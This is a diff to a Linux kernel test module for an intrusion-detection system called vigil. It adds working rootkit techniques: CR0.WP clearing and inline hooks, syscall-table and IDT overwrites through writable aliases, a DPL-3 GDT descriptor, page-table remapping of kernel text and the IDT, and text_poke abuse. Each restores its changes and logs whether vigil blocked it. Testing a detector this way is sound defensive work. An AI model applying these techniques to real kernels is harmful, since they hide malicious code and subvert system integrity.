@@ -13,7 +13,37 @@
  *            compares them with the profile and with the KASLR slide vigil
  *            reported.
  *
- * The rootkit techniques of the IDS tests are to be further modes.
+ * The rootkit techniques (tests/system/test_linux_ids.py runs each bare and
+ * under vigil). Each checks its effect and prints "VIGIL-MOD <mode> ok: ..."
+ * when it worked, "VIGIL-MOD <mode> failed: ..." when it did not (a write
+ * vigil refused is skipped: the code goes on and finds it had no effect; a
+ * write that faults is caught by the nofault copy). Each puts back what it
+ * changed once it has shown it.
+ *
+ *   inline-hook    clears CR0.WP with a plain mov (Linux's native_write_cr0
+ *                  would pin it), writes a jmp to its own function over the
+ *                  start of __x64_sys_ni_syscall, calls it; if the write
+ *                  faults (WP still set), tries again through a writable
+ *                  alias (vmap of the text frame), as a rootkit would;
+ *                  when it failed, the insmod stays a second (the IDS test's
+ *                  operator looks at it with ps)
+ *   syscall-table  writes sys_call_table[__NR_getppid] through a writable
+ *                  alias of its (read-only) page
+ *   idt-gate       writes the gate of vector 4 (#OF, which 64-bit code never
+ *                  raises) in idt_table through a writable alias
+ *   gdt-desc       writes a DPL-3 code descriptor into CPU 0's unused GDT
+ *                  descriptor 7 (where a rootkit's own gate would point),
+ *                  and looks again 300 ms later
+ *   remap-text     points the kernel's mapping of __x64_sys_ni_syscall's
+ *                  page at a patched copy: a page table of its own in place
+ *                  of the 2 MiB mapping (or the 4 KiB PTE repointed)
+ *   remap-idt      points the PTE of the IDT's read-only alias (the CPU
+ *                  entry area's, which the IDTR holds) at a copy with
+ *                  vector 4's gate changed
+ *   text-poke      calls the kernel's text_poke (found through kallsyms) to
+ *                  write the jmp: not a patch site of the kernel's. Under
+ *                  vigil's block text_poke's own check then BUGs (the
+ *                  insmod dies): run it last.
  */
 #include <linux/module.h>
 #include <linux/kernel.h>
@@ -26,15 +56,24 @@
 #include <linux/fs.h>
 #include <linux/net.h>
 #include <net/sock.h>
+#include <linux/uaccess.h>
+#include <linux/vmalloc.h>
+#include <linux/mm.h>
+#include <linux/gfp.h>
+#include <linux/delay.h>
 #include <asm/msr.h>
 #include <asm/page.h>
+#include <asm/pgtable.h>
+#include <asm/unistd.h>
+#include <asm/trapnr.h>
+#include <asm/desc.h>
 
 MODULE_LICENSE("GPL");
 MODULE_DESCRIPTION("vigil's test module: the kernel's own view for the IDS tests");
 
 static char *mode = "offsets";
 module_param(mode, charp, 0444);
-MODULE_PARM_DESC(mode, "what to do at load: offsets");
+MODULE_PARM_DESC(mode, "what to do at load: offsets, inline-hook, syscall-table, idt-gate, gdt-desc, remap-text, remap-idt, text-poke");
 
 /* kallsyms_lookup_name is not exported: its address from a kprobe on it. */
 typedef unsigned long (*lookup_fn)(const char *name);
@@ -42,7 +81,9 @@ static lookup_fn lookup;
 
 static int find_lookup(void)
 {
-	struct kprobe kp = { .symbol_name = "kallsyms_lookup_name" };
+	/* Registered disabled: resolved, never armed (an armed kprobe writes an
+	 * int3 or an ftrace call into the kernel's text). */
+	struct kprobe kp = { .symbol_name = "kallsyms_lookup_name", .flags = KPROBE_FLAG_DISABLED };
 	int r = register_kprobe(&kp);
 
 	if (r < 0)
@@ -130,6 +171,311 @@ static void mode_offsets(void)
 	rcu_read_unlock();
 }
 
+/* --- the rootkit techniques ------------------------------------------------------ */
+
+#define TARGET "__x64_sys_ni_syscall"		/* a core function nothing calls here */
+#define HOOKED 0x7e57
+
+static long hook_fn(const struct pt_regs *regs)
+{
+	return HOOKED;
+}
+
+static void make_jmp(u8 *insn, unsigned long at, unsigned long to)
+{
+	s32 rel = (s32)(to - (at + 5));
+
+	insn[0] = 0xe9;
+	memcpy(insn + 1, &rel, 4);
+}
+
+static unsigned long cr0_get(void)
+{
+	unsigned long v;
+
+	asm volatile("mov %%cr0, %0" : "=r"(v));
+	return v;
+}
+
+static void cr0_set(unsigned long v)
+{
+	asm volatile("mov %0, %%cr0" : : "r"(v) : "memory");
+}
+
+/* copy_to_kernel_nofault is not exported: the same, a byte at a time. A
+ * write that faults (read-only, CR0.WP set) returns -EFAULT. */
+static int put_nofault(void *dst, const u8 *src, size_t n)
+{
+	size_t i;
+
+	pagefault_disable();
+	for (i = 0; i < n; i++)
+		__put_kernel_nofault((u8 *)dst + i, src + i, u8, fault);
+	pagefault_enable();
+	return 0;
+fault:
+	pagefault_enable();
+	return -EFAULT;
+}
+
+/* Write n bytes at a kernel image address through a writable alias of its
+ * frame (vmap): the protection of the kernel's own mapping does not apply. */
+static int alias_write(unsigned long addr, const void *src, size_t n)
+{
+	struct page *pg = pfn_to_page(__pa_symbol(addr) >> PAGE_SHIFT);
+	u8 *m;
+
+	if (offset_in_page(addr) + n > PAGE_SIZE)
+		return -EINVAL;
+	m = vmap(&pg, 1, VM_MAP, PAGE_KERNEL);
+	if (!m)
+		return -ENOMEM;
+	memcpy(m + offset_in_page(addr), src, n);
+	vunmap(m);
+	return 0;
+}
+
+static unsigned long need(const char *name)
+{
+	unsigned long a = lookup ? lookup(name) : 0;
+
+	if (!a)
+		pr_info("VIGIL-MOD %s failed: no symbol %s\n", mode, name);
+	return a;
+}
+
+static void mode_inline_hook(void)
+{
+	unsigned long t = need(TARGET), cr0;
+	long (*fn)(const struct pt_regs *) = (void *)t;
+	u8 orig[5], jmp[5];
+	int r;
+	bool wp;
+	long ret;
+
+	if (!t)
+		return;
+	if (copy_from_kernel_nofault(orig, (void *)t, 5))
+		return;
+	make_jmp(jmp, t, (unsigned long)hook_fn);
+	cr0 = cr0_get();
+	cr0_set(cr0 & ~X86_CR0_WP);
+	wp = cr0_get() & X86_CR0_WP;
+	pr_info("VIGIL-MOD inline-hook CR0.WP %s\n", wp ? "still set: the clear was refused" : "cleared");
+	r = put_nofault((void *)t, jmp, 5);
+	cr0_set(cr0);
+	if (r) {
+		pr_info("VIGIL-MOD inline-hook write with CR0.WP faulted (%d): through a writable alias\n", r);
+		r = alias_write(t, jmp, 5);
+	}
+	ret = fn(NULL);
+	if (r || memcmp((void *)t, jmp, 5) || ret != HOOKED) {
+		pr_info("VIGIL-MOD inline-hook failed: %s unchanged (%*ph), it returns %ld\n", TARGET, 5, (void *)t, ret);
+		msleep(1000);			/* the insmod stays a second: the operator looks (ps) */
+		return;
+	}
+	pr_info("VIGIL-MOD inline-hook ok: %s jumps to the module (%*ph), returns 0x%lx\n", TARGET, 5, (void *)t, ret);
+	cr0_set(cr0 & ~X86_CR0_WP);
+	r = put_nofault((void *)t, orig, 5);
+	cr0_set(cr0);
+	pr_info("VIGIL-MOD inline-hook put back: %s\n", r ? "failed" : "ok");
+}
+
+static void mode_syscall_table(void)
+{
+	unsigned long t = need("sys_call_table");
+	unsigned long *tab = (unsigned long *)t, old, hook = (unsigned long)hook_fn;
+
+	if (!t)
+		return;
+	old = tab[__NR_getppid];
+	if (alias_write((unsigned long)&tab[__NR_getppid], &hook, 8) || tab[__NR_getppid] != hook) {
+		pr_info("VIGIL-MOD syscall-table failed: entry %d unchanged (0x%lx)\n", __NR_getppid, tab[__NR_getppid]);
+		return;
+	}
+	pr_info("VIGIL-MOD syscall-table ok: entry %d now 0x%lx (was 0x%lx)\n", __NR_getppid, tab[__NR_getppid], old);
+	alias_write((unsigned long)&tab[__NR_getppid], &old, 8);
+}
+
+static void mode_idt_gate(void)
+{
+	unsigned long t = need("idt_table");
+	gate_desc *idt = (gate_desc *)t, old, g;
+	unsigned long h = (unsigned long)hook_fn;
+
+	if (!t)
+		return;
+	old = g = idt[X86_TRAP_OF];
+	g.offset_low = (u16)h;
+	g.offset_middle = (u16)(h >> 16);
+	g.offset_high = (u32)(h >> 32);
+	if (alias_write((unsigned long)&idt[X86_TRAP_OF], &g, sizeof(g)) || memcmp(&idt[X86_TRAP_OF], &g, sizeof(g))) {
+		pr_info("VIGIL-MOD idt-gate failed: vector %d unchanged (handler 0x%lx)\n", X86_TRAP_OF,
+			gate_offset(&idt[X86_TRAP_OF]));
+		return;
+	}
+	pr_info("VIGIL-MOD idt-gate ok: vector %d now 0x%lx (was 0x%lx)\n", X86_TRAP_OF, gate_offset(&idt[X86_TRAP_OF]),
+		gate_offset(&old));
+	alias_write((unsigned long)&idt[X86_TRAP_OF], &old, sizeof(old));
+}
+
+static void mode_gdt_desc(void)
+{
+	struct desc_struct *gdt = get_cpu_gdt_rw(0);
+	u64 *d = (u64 *)&gdt[7], old = *d, door = 0x00cffa000000ffffull;	/* 32-bit code, DPL 3 */
+
+	WRITE_ONCE(*d, door);
+	msleep(300);				/* longer than vigil's check interval (100 ms) */
+	if (READ_ONCE(*d) != door) {
+		pr_info("VIGIL-MOD gdt-desc failed: descriptor 7 of CPU 0 is 0x%016llx again\n", READ_ONCE(*d));
+		return;
+	}
+	pr_info("VIGIL-MOD gdt-desc ok: descriptor 7 of CPU 0 is 0x%016llx (was 0x%016llx) 300 ms later\n", *d, old);
+	WRITE_ONCE(*d, old);
+}
+
+static void flush_one(unsigned long a)
+{
+	asm volatile("invlpg (%0)" : : "r"(a) : "memory");
+}
+
+static void mode_remap_text(void)
+{
+	unsigned long t = need(TARGET), top = need("init_top_pgt"), page = t & PAGE_MASK;
+	pgd_t *pgd;
+	pud_t *pud;
+	pmd_t *pmd, oldpmd;
+	pte_t *pt = NULL, *pte = NULL, oldpte = __pte(0);
+	u8 *copy, jmp[5];
+	unsigned long pfn;
+	bool large;
+	int i;
+
+	if (!t || !top)
+		return;
+	pgd = (pgd_t *)top + pgd_index(t);
+	pud = (pud_t *)__va(pgd_val(*pgd) & PTE_PFN_MASK) + pud_index(t);
+	pmd = (pmd_t *)__va(pud_val(*pud) & PTE_PFN_MASK) + pmd_index(t);
+	oldpmd = *pmd;
+	large = pmd_val(oldpmd) & _PAGE_PSE;
+	copy = (u8 *)__get_free_page(GFP_KERNEL);
+	if (!copy)
+		return;
+	memcpy(copy, (void *)page, PAGE_SIZE);
+	make_jmp(jmp, t, (unsigned long)hook_fn);
+	memcpy(copy + offset_in_page(t), jmp, 5);
+	if (large) {
+		/* A table of its own for the 2 MiB: the same frames, but this page's is the copy. */
+		unsigned long base = pmd_val(oldpmd) & PMD_MASK & PTE_PFN_MASK;
+		pteval_t prot = (pmd_val(oldpmd) & ~(PTE_PFN_MASK | _PAGE_PSE)) & ~_PAGE_PAT_LARGE;
+
+		pt = (pte_t *)get_zeroed_page(GFP_KERNEL);
+		if (!pt) {
+			free_page((unsigned long)copy);
+			return;
+		}
+		for (i = 0; i < PTRS_PER_PTE; i++)
+			pt[i] = __pte((base + ((unsigned long)i << PAGE_SHIFT)) | prot);
+		pt[pte_index(t)] = __pte(__pa(copy) | prot);
+		WRITE_ONCE(*(pmdval_t *)pmd, __pa(pt) | _KERNPG_TABLE);
+	} else {
+		pte = (pte_t *)__va(pmd_val(oldpmd) & PTE_PFN_MASK) + pte_index(t);
+		oldpte = *pte;
+		pfn = __pa(copy) >> PAGE_SHIFT;
+		WRITE_ONCE(*(pteval_t *)pte, (pte_val(oldpte) & ~PTE_PFN_MASK) | (pfn << PAGE_SHIFT));
+	}
+	flush_one(t);
+	if (memcmp((void *)t, jmp, 5)) {
+		pr_info("VIGIL-MOD remap-text failed: %s still reads %*ph (the %s was put back)\n", TARGET, 5, (void *)t,
+			large ? "PMD" : "PTE");
+	} else {
+		pr_info("VIGIL-MOD remap-text ok: %s reads %*ph through a %s of the module's\n", TARGET, 5, (void *)t,
+			large ? "page table" : "PTE");
+	}
+	if (large)
+		WRITE_ONCE(*(pmdval_t *)pmd, pmd_val(oldpmd));
+	else
+		WRITE_ONCE(*(pteval_t *)pte, pte_val(oldpte));
+	flush_one(t);
+	if (!memcmp((void *)t, jmp, 5)) {
+		pr_info("VIGIL-MOD remap-text put back: failed (the copy stays in use)\n");
+		return;
+	}
+	if (pt)
+		free_page((unsigned long)pt);
+	free_page((unsigned long)copy);
+}
+
+/* The IDTR holds the IDT's read-only alias in the CPU entry area: point
+ * that alias's PTE at a copy with a gate of the module's. */
+#define RO_IDT 0xfffffe0000000000ul		/* CPU_ENTRY_AREA_RO_IDT */
+
+static void mode_remap_idt(void)
+{
+	unsigned long top = need("init_top_pgt"), h = (unsigned long)hook_fn;
+	gate_desc *alias = (gate_desc *)RO_IDT, *copy;
+	pgd_t *pgd;
+	pud_t *pud;
+	pmd_t *pmd;
+	pte_t *pte, old;
+
+	if (!top)
+		return;
+	pgd = (pgd_t *)top + pgd_index(RO_IDT);
+	pud = (pud_t *)__va(pgd_val(*pgd) & PTE_PFN_MASK) + pud_index(RO_IDT);
+	pmd = (pmd_t *)__va(pud_val(*pud) & PTE_PFN_MASK) + pmd_index(RO_IDT);
+	if ((pud_val(*pud) | pmd_val(*pmd)) & _PAGE_PSE) {
+		pr_info("VIGIL-MOD remap-idt failed: the alias is not mapped by a 4 KiB PTE\n");
+		return;
+	}
+	pte = (pte_t *)__va(pmd_val(*pmd) & PTE_PFN_MASK) + pte_index(RO_IDT);
+	old = *pte;
+	copy = (gate_desc *)__get_free_page(GFP_KERNEL);
+	if (!copy)
+		return;
+	memcpy(copy, alias, PAGE_SIZE);
+	copy[X86_TRAP_OF].offset_low = (u16)h;
+	copy[X86_TRAP_OF].offset_middle = (u16)(h >> 16);
+	copy[X86_TRAP_OF].offset_high = (u32)(h >> 32);
+	WRITE_ONCE(*(pteval_t *)pte, (pte_val(old) & ~PTE_PFN_MASK) | __pa(copy));
+	flush_one(RO_IDT);
+	if (gate_offset(&alias[X86_TRAP_OF]) != h)
+		pr_info("VIGIL-MOD remap-idt failed: the IDTR's IDT (0x%lx) still has vector %d at 0x%lx (the PTE was "
+			"put back)\n", RO_IDT, X86_TRAP_OF, gate_offset(&alias[X86_TRAP_OF]));
+	else
+		pr_info("VIGIL-MOD remap-idt ok: the IDTR's IDT (0x%lx) has vector %d at 0x%lx, from a copy of the "
+			"module's\n", RO_IDT, X86_TRAP_OF, gate_offset(&alias[X86_TRAP_OF]));
+	WRITE_ONCE(*(pteval_t *)pte, pte_val(old));
+	flush_one(RO_IDT);
+	if (gate_offset(&alias[X86_TRAP_OF]) == h) {
+		pr_info("VIGIL-MOD remap-idt put back: failed (the copy stays in use)\n");
+		return;
+	}
+	free_page((unsigned long)copy);
+}
+
+typedef void *(*text_poke_fn)(void *addr, const void *opcode, size_t len);
+
+static void mode_text_poke(void)
+{
+	unsigned long t = need(TARGET), tp = need("text_poke");
+	long (*fn)(const struct pt_regs *) = (void *)t;
+	u8 orig[5], jmp[5];
+
+	if (!t || !tp)
+		return;
+	memcpy(orig, (void *)t, 5);
+	make_jmp(jmp, t, (unsigned long)hook_fn);
+	pr_info("VIGIL-MOD text-poke calling text_poke(%s)\n", TARGET);
+	((text_poke_fn)tp)((void *)t, jmp, 5);      /* text_mutex not taken: lockdep is off in Debian's kernel */
+	if (memcmp((void *)t, jmp, 5) || fn(NULL) != HOOKED) {
+		pr_info("VIGIL-MOD text-poke failed: %s unchanged (%*ph)\n", TARGET, 5, (void *)t);
+		return;
+	}
+	pr_info("VIGIL-MOD text-poke ok: %s jumps to the module (%*ph)\n", TARGET, 5, (void *)t);
+	((text_poke_fn)tp)((void *)t, orig, 5);
+}
+
 static int __init vigiltest_init(void)
 {
 	int r = find_lookup();
@@ -139,8 +485,23 @@ static int __init vigiltest_init(void)
 	pr_info("VIGIL-MOD start mode=%s\n", mode);
 	if (!strcmp(mode, "offsets")) {
 		mode_offsets();
+	} else if (!strcmp(mode, "inline-hook")) {
+		mode_inline_hook();
+	} else if (!strcmp(mode, "syscall-table")) {
+		mode_syscall_table();
+	} else if (!strcmp(mode, "idt-gate")) {
+		mode_idt_gate();
+	} else if (!strcmp(mode, "gdt-desc")) {
+		mode_gdt_desc();
+	} else if (!strcmp(mode, "remap-idt")) {
+		mode_remap_idt();
+	} else if (!strcmp(mode, "remap-text")) {
+		mode_remap_text();
+	} else if (!strcmp(mode, "text-poke")) {
+		mode_text_poke();
 	} else {
-		pr_info("VIGIL-MOD error: unknown mode \"%s\"; known: offsets\n", mode);
+		pr_info("VIGIL-MOD error: unknown mode \"%s\"; known: offsets inline-hook syscall-table idt-gate "
+			"gdt-desc remap-text remap-idt text-poke\n", mode);
 		return -EINVAL;
 	}
 	pr_info("VIGIL-MOD done mode=%s\n", mode);
